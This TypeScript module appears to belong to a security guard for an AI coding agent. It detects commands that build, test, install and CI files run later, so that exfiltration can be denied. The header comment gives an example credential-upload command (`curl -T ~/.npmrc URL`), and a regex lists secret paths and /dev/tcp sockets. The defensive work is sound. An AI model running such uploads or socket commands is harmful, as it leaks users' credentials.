/**
 * Files that run later: build, test, install and task files whose commands or code run on
 * the next `npm test`, `make`, `pytest`, `gradle build`, `rake`, `pip install` or CI step,
 * without anyone reading them then. One list serves the Write, Edit and MultiEdit tools and
 * shell commands that write such files (`>> setup.py`, `npm pkg set scripts.x=…`, `sed -i`).
 * What a file runs is turned into a command line and judged by the same checks as a Bash
 * call, so the text `curl -T ~/.npmrc URL` is denied in a package.json script as it is typed.
 */
import path from 'node:path';
import { isJenkinsFile, isYamlCiFile } from './ci-files.js';
import {
  expandAzureMacros,
  expandGroovyEnvironment,
  expandsSecretVariable,
  powershellAsShell,
  tripleQuotedLines,
} from './ci-steps.js';
import { namesCredentialPath } from './findings.js';

/** Layout of the commands in the text of a file that runs later. */
export type RunLaterKind =
  /** JSON whose string values are command lines: package.json and composer.json scripts. */
  | 'scripts'
  /** Recipe lines indented under a target: Makefile, `*.mk`, Justfile. */
  | 'recipes'
  /** `run:`, `cmd:` and `script:` keys of YAML task files and composite actions. */
  | 'yaml'
  /** Program code in a language the guard reads as inline code. */
  | 'python'
  | 'node'
  | 'ruby'
  /** Build scripts in other languages: only their string literals are read as commands. */
  | 'strings'
  /** Tool settings that can load code into every run (see loader-configs.ts). */
  | 'config';

const BY_NAME: ReadonlyMap<string, RunLaterKind> = new Map([
  ['package.json', 'scripts'],
  ['composer.json', 'scripts'],
  ['makefile', 'recipes'],
  ['gnumakefile', 'recipes'],
  ['justfile', 'recipes'],
  ['.justfile', 'recipes'],
  ['taskfile.yml', 'yaml'],
  ['taskfile.yaml', 'yaml'],
  ['action.yml', 'yaml'],
  ['action.yaml', 'yaml'],
  ['setup.py', 'python'],
  ['conftest.py', 'python'],
  ['noxfile.py', 'python'],
  ['tasks.py', 'python'],
  ['fabfile.py', 'python'],
  ['dodo.py', 'python'],
  ['sitecustomize.py', 'python'],
  ['usercustomize.py', 'python'],
  ['manage.py', 'python'],
  ['.pnpmfile.cjs', 'node'],
  ['pnpmfile.js', 'node'],
  ['gulpfile.js', 'node'],
  ['gruntfile.js', 'node'],
  ['rakefile', 'ruby'],
  ['gemfile', 'ruby'],
  ['guardfile', 'ruby'],
  ['build.gradle', 'strings'],
  ['build.gradle.kts', 'strings'],
  ['settings.gradle', 'strings'],
  ['settings.gradle.kts', 'strings'],
  ['pom.xml', 'strings'],
  ['build.xml', 'strings'],
  ['cmakelists.txt', 'strings'],
  ['meson.build', 'strings'],
  ['tox.ini', 'strings'],
  ['mix.exs', 'strings'],
  ['build.rs', 'strings'],
  ['build.zig', 'strings'],
  ['build.sbt', 'strings'],
  ['vagrantfile', 'ruby'],
  ['.npmrc', 'config'],
  ['.yarnrc', 'config'],
  ['.yarnrc.yml', 'config'],
  ['gradle.properties', 'config'],
  ['jvm.config', 'config'],
  ['pytest.ini', 'config'],
  ['pyproject.toml', 'config'],
  ['setup.cfg', 'config'],
]);

/** Settings files named by their folder: `.cargo/config.toml`, `.bundle/config`. */
const CONFIG_IN_FOLDER = /(?:^|\/)(?:\.cargo\/config(?:\.toml)?|\.bundle\/config)$/;

/** Node config files that test runners, bundlers and linters load: `vitest.config.ts`, `.eslintrc.js`. */
const NODE_CONFIG =
  /^(?:[\w.-]+\.config|\.eslintrc|\.prettierrc|\.babelrc|babel\.config|\.mocharc|jest\.setup|vitest\.setup|\.storybook\/main)\.[cm]?[jt]sx?$/;
/** Scripts npm runs on install by convention (`scripts/postinstall.js`). */
const INSTALL_SCRIPT = /^[^/]*(?:pre|post)?install[^/]*\.(?:[cm]?js|ts|py|sh)$/;

/** Returns how the file `file` (a path) runs later, or undefined when it is not such a file. */
export function runLaterKind(file: string): RunLaterKind | undefined {
  const base = path.posix.basename(file);
  const lower = base.toLowerCase();
  if (/\.ya?ml$/.test(lower) && isYamlCiFile(ciRelative(file))) {
    return 'yaml';
  }
  if (isJenkinsFile(base)) {
    return 'strings';
  }
  if (CONFIG_IN_FOLDER.test(file)) {
    return 'config';
  }
  const named = BY_NAME.get(lower);
  if (named !== undefined) {
    return named;
  }
  if (lower.endsWith('.mk')) {
    return 'recipes';
  }
  if (lower.endsWith('.pth')) {
    return 'python';
  }
  if (lower.endsWith('.gemspec') || lower.endsWith('.rake')) {
    return 'ruby';
  }
  if (/\.(?:cs|fs|vb)proj$|\.targets$|\.props$/.test(lower)) {
    return 'strings';
  }
  if (NODE_CONFIG.test(base) || INSTALL_SCRIPT.test(base)) {
    return /\.py$/.test(lower) ? 'python' : /\.sh$/.test(lower) ? 'strings' : 'node';
  }
  return undefined;
}

/** Returns the CI-relative part of `file`: from `.github/`, `.gitlab`, `.circleci/` and the like on. */
function ciRelative(file: string): string {
  const start = /(?:^|\/)(\.(?:github|gitlab|circleci|azure-pipelines|azure|buildkite)\/)/.exec(
    file,
  );
  return start === null
    ? path.posix.basename(file)
    : file.slice(start.index + start[0].length - (start[1] ?? '').length);
}

/** Inline-code forms by language, as `written-code.ts` builds them for written scripts. */
const RUNNERS: Partial<Record<RunLaterKind, string>> = {
  python: 'python3 -c',
  node: 'node -e',
  ruby: 'ruby -e',
};

/**
 * A command line to judge, and whether its text is program code (judged as inline code).
 * `secretLines` marks lines chosen only because they expand a secret variable. For them, only
 * a print of the secret into the log or a send of it to another host counts, because
 * `echo "$PW" | docker login --password-stdin` is how CI steps log in.
 */
export interface RunLaterCommand {
  command: string;
  code: boolean;
  secretLines?: boolean;
}

/**
 * Returns the command lines that `text`, written into a file of `kind`, runs later. The
 * text may be the whole file or only the part an edit adds. Undefined when it runs nothing.
 */
export function runLaterCommands(kind: RunLaterKind, text: string): RunLaterCommand[] {
  if (text.trim() === '' || kind === 'config') {
    return [];
  }
  const runner = RUNNERS[kind];
  const commands: RunLaterCommand[] = [];
  if (runner !== undefined) {
    commands.push({ command: `${runner} ${quote(text)}`, code: true });
  }
  const lines = stepLines(kind, text).map(powershellAsShell);
  // Build files upload their own output (coverage, releases, images) to hosts the user
  // never names in a request, so only lines that touch private data or open a socket count.
  const shell = lines.filter(
    (line) => (/\s/.test(line.trim()) || ENVIRONMENT_ALONE.test(line)) && touchesPrivateData(line),
  );
  if (shell.length > 0) {
    commands.push({ command: shell.slice(0, MAX_LINES).join('\n'), code: false });
  }
  const secret = lines.filter((line) => !shell.includes(line) && expandsSecretVariable(line));
  if (secret.length > 0) {
    commands.push({
      command: secret.slice(0, MAX_LINES).join('\n'),
      code: false,
      secretLines: true,
    });
  }
  return commands;
}

/** A line that is only `env` or `printenv`, which prints the whole environment into the log. */
const ENVIRONMENT_ALONE = /^\s*(?:env|printenv)\s*$/;

/** Returns the lines of `text` that a file of `kind` runs as shell, with CI syntax rewritten. */
function stepLines(kind: RunLaterKind, text: string): string[] {
  switch (kind) {
    case 'scripts':
      return stringLiterals(text, /"((?:[^"\\\n]|\\.)*)"/g);
    case 'recipes':
      return recipeLines(text);
    case 'yaml':
      return yamlRuns(text).map(expandAzureMacros);
    default: {
      const { lines, rest } = tripleQuotedLines(text);
      return [
        ...lines,
        ...stringLiterals(rest, /"((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'/g),
      ].map(expandGroovyEnvironment);
    }
  }
}

/**
 * Names of private data in a command line: the environment dumped by `env` or `printenv`,
 * the home folder, `.env`, `.ssh`, `.aws`, `.git`, and shell sockets under `/dev/tcp`.
 */
const PRIVATE_DATA =
  /(?:^|[\s|;&(])(?:env|printenv)(?:\s*[|>;&)]|\s*$)|\$\{?HOME\b|~\/|\/proc\/\w+\/environ|(?:^|[/\s'"(:=@])\.env\b(?!\.example|\.sample|\.template)|\.ssh\b|\.aws\b|\.gnupg\b|\.git(?:\/|\b(?!hub|lab|ignore|attributes|keep|modules))|\/dev\/(?:tcp|udp)\//;

function touchesPrivateData(line: string): boolean {
  return PRIVATE_DATA.test(line) || namesCredentialPath(line);
}

/** At most this many command lines of one file are judged, to bound the work per call. */
const MAX_LINES = 200;

function quote(text: string): string {
  return `'${text.replaceAll("'", String.raw`'\''`)}'`;
}

/** Returns the string literals of `text` with their escapes undone, each as one line. */
function stringLiterals(text: string, literal: RegExp): string[] {
  return [...text.matchAll(literal)]
    .map((match) => (match[1] ?? match[2] ?? '').replace(/\\(.)/g, '$1'))
    .filter((value) => value.trim() !== '' && !value.includes('\n'));
}

/** Returns the recipe lines of a Makefile or Justfile: indented lines, without `@`, `-`, `+`. */
function recipeLines(text: string): string[] {
  return text
    .split('\n')
    .filter((line) => /^(?:\t| {2,})\S/.test(line))
    .map((line) => line.trim().replace(/^[@+-]+/, ''))
    .map((line) => line.replace(/\$\$/g, '$').replace(/\$\((\w+)\)/g, '$$$1'));
}

/**
 * Keys whose values are shell commands: task files' `run:`, `cmd:` and `cmds:`, and the step
 * keys of CI files (GitLab and Bitbucket `script:`, CircleCI and Buildkite `command:`, Azure
 * `bash:`, Travis `install:`).
 */
const YAML_RUN_KEY =
  /^(\s*)(?:-\s+)?(?:run|cmd|cmds|script|before_script|after_script|command|commands|bash|sh|pwsh|powershell|before_install|install|after_success|after_failure)\s*:\s*(.*)$/;

/** Returns the commands of the keys in {@link YAML_RUN_KEY}, inline or as blocks, and list items. */
function yamlRuns(text: string): string[] {
  const lines = text.split('\n');
  const commands: string[] = [];
  for (let index = 0; index < lines.length; index += 1) {
    const line = lines[index] ?? '';
    const match = YAML_RUN_KEY.exec(line);
    if (match === null) {
      // A list item that is not a mapping may be a step added under a `script:` key that the
      // edit does not include, as in GitLab CI. Only lines that touch private data are judged.
      const item = /^\s*-\s+(?![\w-]+\s*:(?:\s|$))(.+)$/.exec(line)?.[1];
      if (item !== undefined) {
        commands.push(item.trim().replace(/^(['"])(.*)\1$/, '$2'));
      }
      continue;
    }
    const value = (match[2] ?? '').trim();
    if (value !== '' && !/^[|>][-+]?$/.test(value)) {
      commands.push(value.replace(/^(['"])(.*)\1$/, '$2'));
      continue;
    }
    const indent = (match[1] ?? '').length;
    while (index + 1 < lines.length) {
      const next = lines[index + 1] ?? '';
      const depth = /^\s*/.exec(next)?.[0].length ?? 0;
      if (next.trim() !== '' && depth <= indent) {
        break;
      }
      index += 1;
      commands.push(next.trim().replace(/^-\s+/, ''));
    }
  }
  return commands;
}
